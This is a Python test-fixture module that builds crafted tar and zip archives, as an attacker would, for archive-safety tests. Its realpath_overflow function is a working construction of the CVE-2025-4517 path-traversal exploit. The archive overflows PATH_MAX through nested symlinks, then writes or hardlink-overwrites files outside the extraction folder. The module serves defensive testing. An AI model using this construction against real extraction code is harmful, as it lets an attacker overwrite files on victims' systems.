"""Crafted archives for the archive-safety tests (unit and integration): members are written
directly as TarInfo / ZipInfo, the way an attacker builds them, not from a folder on disk."""

from __future__ import annotations

import io
import os
import stat
import tarfile
import zipfile

STEPS = "abcdefghijklmnop"


class TarMaker:
    """Builds a tar.gz member by member (PAX format, so long names are allowed)."""

    def __init__(self, compression: str = "gz"):
        self._buf = io.BytesIO()
        self._tar = tarfile.open(fileobj=self._buf, mode=f"w:{compression}", format=tarfile.PAX_FORMAT)

    def file(self, name: str, data: bytes = b"", mode: int = 0o644) -> TarMaker:
        info = tarfile.TarInfo(name)
        info.size, info.mode = len(data), mode
        self._tar.addfile(info, io.BytesIO(data))
        return self

    def dir(self, name: str, mode: int = 0o755) -> TarMaker:
        return self._add(name, tarfile.DIRTYPE, mode=mode)

    def symlink(self, name: str, target: str) -> TarMaker:
        return self._add(name, tarfile.SYMTYPE, linkname=target, mode=0o777)

    def hardlink(self, name: str, target: str) -> TarMaker:
        return self._add(name, tarfile.LNKTYPE, linkname=target)

    def special(self, name: str, kind: bytes) -> TarMaker:
        return self._add(name, kind, devmajor=1, devminor=3)

    def _add(self, name: str, kind: bytes, **fields) -> TarMaker:
        info = tarfile.TarInfo(name)
        info.type = kind
        for key, value in fields.items():
            setattr(info, key, value)
        self._tar.addfile(info)
        return self

    def bytes(self) -> bytes:
        self._tar.close()
        return self._buf.getvalue()


def realpath_overflow(dest: str, marker: str, climb: int = 1, hardlink: str | None = None) -> bytes:
    """The CVE-2025-4517 construction for an archive unpacked at ``dest`` (an absolute path).

    Sixteen folders with names wide enough that the unexpanded path fits in PATH_MAX, each with a
    one-letter link to it; a link below the sixteen links climbs back to ``dest``: expanding it
    overflows PATH_MAX, so ``os.path.realpath`` stops expanding and the path still looks inside.
    ``escape`` then leads ``climb`` levels above ``dest``, and ``escape/<marker>`` is written
    there. With ``hardlink``, ``flaglink`` is first made a hard link through it to ``escape/<hardlink>``
    (a file that must exist there) and then overwritten.
    """
    width = (os.pathconf("/", "PC_PATH_MAX") - len(dest) - 1) // (len(STEPS) + 1)
    folder = "d" * min(width, 250)
    maker = TarMaker()
    path = ""
    for step in STEPS:
        maker.dir(os.path.join(path, folder), mode=0o777)
        maker.symlink(os.path.join(path, step), folder)
        path = os.path.join(path, folder)
    long_link = os.path.join(*STEPS, "l" * 254)
    maker.symlink(long_link, os.path.join(*[".."] * len(STEPS)))
    maker.symlink("escape", os.path.join(long_link, *[".."] * climb))
    if hardlink:
        maker.hardlink("flaglink", os.path.join("escape", hardlink))
        maker.file("flaglink", b"overwritten")
    maker.file(f"escape/{marker}", b"escaped")
    return maker.bytes()


def zip_bytes(members: list[tuple[str, bytes, int | None]]) -> bytes:
    """A zip of (name, data, unix mode or None) members; a mode with S_IFLNK makes a symlink."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, data, mode in members:
            info = zipfile.ZipInfo(name)
            if mode is not None:
                info.create_system = 3
                info.external_attr = mode << 16
            archive.writestr(info, data)
    return buf.getvalue()


ZIP_SYMLINK = stat.S_IFLNK | 0o777
